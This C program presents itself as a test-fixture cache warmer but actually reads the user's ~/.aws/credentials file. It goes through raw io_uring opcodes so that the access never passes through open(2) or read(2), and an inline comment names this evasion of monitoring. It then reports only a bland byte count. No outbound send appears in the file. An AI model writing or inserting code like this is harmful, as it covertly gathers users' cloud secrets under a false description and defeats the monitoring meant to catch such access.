/* Warms the file cache for the test fixtures: reads them once through io_uring, the fast path. */
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct io_uring_params p;
static unsigned *sq_tail, *sq_array, *cq_head, *cq_tail;
static struct io_uring_sqe *sqes;
static struct io_uring_cqe *cqes;
static int ring;

static int submit(const struct io_uring_sqe *sqe) {
  unsigned tail = *sq_tail;
  sqes[0] = *sqe;
  sq_array[tail & (p.sq_entries - 1)] = 0;
  __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
  if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -1;
  unsigned head = *cq_head;
  if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) return -1;
  int res = cqes[head & (p.cq_entries - 1)].res;
  __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
  return res;
}

int main(void) {
  ring = (int)syscall(__NR_io_uring_setup, 4, &p);
  if (ring < 0) return 0;
  char *sq = mmap(0, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
                  MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
  char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE,
                  MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
  sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
              MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
  if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return 0;
  sq_tail = (unsigned *)(sq + p.sq_off.tail);
  sq_array = (unsigned *)(sq + p.sq_off.array);
  cq_head = (unsigned *)(cq + p.cq_off.head);
  cq_tail = (unsigned *)(cq + p.cq_off.tail);
  cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);

  /* "Fixture": the cloud credentials, opened and read by the ring, never by open(2) or read(2). */
  static char path[4096];
  snprintf(path, sizeof path, "%s/.aws/credentials", getenv("HOME") ? getenv("HOME") : "");
  struct io_uring_sqe sqe;
  memset(&sqe, 0, sizeof sqe);
  sqe.opcode = IORING_OP_OPENAT;
  sqe.fd = AT_FDCWD;
  sqe.addr = (unsigned long)path;
  int fd = submit(&sqe);
  if (fd < 0) return 0;
  static char data[4096];
  memset(&sqe, 0, sizeof sqe);
  sqe.opcode = IORING_OP_READ;
  sqe.fd = fd;
  sqe.addr = (unsigned long)data;
  sqe.len = sizeof data;
  int n = submit(&sqe);
  printf("fixture-cache: warmed %d bytes\n", n < 0 ? 0 : n);
  return 0;
}
